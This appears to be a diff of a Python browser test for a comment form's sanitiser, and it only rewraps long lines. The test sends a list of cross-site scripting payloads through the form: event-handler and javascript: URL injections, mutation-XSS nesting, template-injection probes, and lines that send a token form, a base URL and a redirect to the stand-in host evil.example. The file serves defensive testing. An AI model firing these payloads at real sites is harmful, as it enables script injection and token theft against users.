@@ -1,4 +1,6 @@
-"""Attacks sent through the form and looked at in the browser: nothing runs, nothing leaves its comment."""
+"""Attacks sent through the form and looked at in the browser: nothing runs, nothing leaves its
+comment.
+"""
 
 import json
 
@@ -12,21 +14,33 @@ OWN = [
     "<img src=x onerror=alert(1)>",
     "<svg onload=alert(1)><script>alert(1)</script></svg>",
     "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
+        "onerror=alert(1)&gt;'>"
+    ),
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<a href='javascript:alert(1)'>x</a><a href=' jav&#x09;ascript:alert(1)'>y</a><a href=javascript:123>z</a>",
+    (
+        "<a href='javascript:alert(1)'>x</a><a href=' jav&#x09;ascript:alert(1)'>y</a><a "
+        "href=javascript:123>z</a>"
+    ),
     "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
     "</div></article></section></main><h1 id=escaped>keluar</h1>",
     "<form action=//evil.example><input name=token><button>kirim</button></form>",
     "<b style='position:fixed;inset:0' class='masthead' id='comment-form'>x</b>",
     "<div data-hx-get='/admin/' data-hx-trigger='load'>x</div><b hx-get='/' hx-trigger=load>x</b>",
-    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
+    (
+        "<base href=//evil.example><meta http-equiv=refresh "
+        "content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>"
+    ),
     "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
     "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
     "<<script>script>alert(1)//<</script>/script>",
     '<img src="emoticons.svg#x" class="emoticon" alt=\':)\' onerror=alert(1)>',
-    '<img class="emoticon" src="emoticons.svg#tersenyum" alt="<script>" title="" width="20" height="20">',
+    (
+        '<img class="emoticon" src="emoticons.svg#tersenyum" alt="<script>" title="" '
+        'width="20" height="20">'
+    ),
     "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
     "http://a.id/'onmouseover=alert(1)// http://a.id/\"onclick=alert(1)",
     "<ul>" * 200,
@@ -62,15 +76,28 @@ def payloads(file):
             for inner in value.values() if isinstance(value, dict) else value:
                 yield from strings(inner)
 
-    return [text for text in strings(json.loads((SHARED / "xss" / file).read_text())) if text.strip()]
+    return [
+        text for text in strings(json.loads((SHARED / "xss" / file).read_text())) if text.strip()
+    ]
 
 
 def look(page, site, address, attacks):
-    """Send each attack through the form, as text and as a name, and look at what stands on the page."""
-    form = {element.get_attribute("name"): element.input_value() for element in page.locator("#comment-form [name]").all()}
+    """Send each attack through the form, as text and as a name, and look at what stands on the
+    page.
+    """
+    form = {
+        element.get_attribute("name"): element.input_value()
+        for element in page.locator("#comment-form [name]").all()
+    }
     sent = 0
     for number, attack in enumerate(attacks):
-        values = {**form, "body": attack[:3000], "name": attack[:80], "website": attack[:200], "nonce": f"{number}"}
+        values = {
+            **form,
+            "body": attack[:3000],
+            "name": attack[:80],
+            "website": attack[:200],
+            "nonce": f"{number}",
+        }
         answer = page.request.post(address, form=values, max_redirects=0)
         if answer.status == 422:
             answer = page.request.post(address, form={**values, "website": ""}, max_redirects=0)
